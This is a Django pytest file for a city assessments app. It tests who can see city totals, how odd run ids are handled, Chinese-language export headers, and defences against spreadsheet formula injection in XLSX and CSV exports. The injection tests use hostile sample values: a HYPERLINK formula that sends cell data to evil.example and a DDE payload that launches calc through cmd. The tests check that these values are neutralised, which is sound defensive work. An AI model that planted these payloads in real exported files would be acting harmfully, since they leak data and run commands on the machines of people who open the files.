"""What the review of the assessment found, each pinned: city totals in the API only for those
the page shows them to, spreadsheet formulas never evaluated from names, no 500 on a run id
made of other digits, and Chinese sheets and headers."""

import csv
import datetime
import io
import zoneinfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.models import Score
from tests.assessments import scored

pytestmark = pytest.mark.django_db

october = scored.october
fast_password_hashing = scored.fast_password_hashing
NOW = datetime.datetime(2026, 11, 22, 10, 0, tzinfo=zoneinfo.ZoneInfo("Asia/Shanghai"))
RUNS = "/api/v1/assessments/runs/"
XLSX_URL = reverse("assessments:export_xlsx", kwargs={"month": "2026-10"})
CSV_URL = reverse("assessments:export_csv", kwargs={"month": "2026-10"})
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _november(time_machine):
    time_machine.move_to(NOW, tick=False)


@pytest.mark.parametrize("who", ["officer_gulou", "handler_sanitation"])
def test_officers_and_handlers_get_runs_without_the_city_totals(client, request, october, who):
    client.force_login(request.getfixturevalue(who))
    rows = client.get(RUNS).json()["results"]
    assert rows and all(row["totals"] is None for row in rows)


@pytest.mark.parametrize("who", ["supervisor_gulou", "assessor"])
def test_supervisors_and_assessors_get_the_city_totals(client, request, october, who):
    client.force_login(request.getfixturevalue(who))
    rows = client.get(RUNS).json()["results"]
    assert rows[0]["totals"]["found"] == scored.TOTALS["found"]


def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx(client, assessor, october):
    Score.objects.filter(pk=october.scores["officer_gulou"].pk).update(name=EVIL)
    client.force_login(assessor)
    sheet = load_workbook(io.BytesIO(client.get(XLSX_URL).content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == EVIL]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


@pytest.mark.parametrize("name", [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_a_name_that_looks_like_a_formula_is_quoted_in_the_csv(client, assessor, october, name):
    Score.objects.filter(pk=october.scores["officer_gulou"].pk).update(name=name)
    client.force_login(assessor)
    text = client.get(CSV_URL + "?kind=officer").content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert "'" + name in names
    assert name not in names


@pytest.mark.parametrize("run", ["²", "١٢", "1e3", "-1", "9" * 11])
def test_a_run_id_of_other_digits_is_a_404_not_a_500(client, assessor, october, run):
    client.force_login(assessor)
    url = reverse("assessments:month", kwargs={"month": "2026-10"})
    assert client.get(url, {"run": run}).status_code == 404


def test_the_workbook_speaks_chinese_by_default(client, assessor, october):
    client.force_login(assessor)
    book = load_workbook(io.BytesIO(client.get(XLSX_URL, HTTP_ACCEPT_LANGUAGE="zh-hans").content))
    assert book.sheetnames == ["队员", "大队", "责任单位", "社区", "街道", "区"]
    headers = [cell.value for cell in book.worksheets[0][1]]
    assert headers[:7] == ["排名", "名称", "执法证号", "大队", "综合得分", "等次", "环比"]
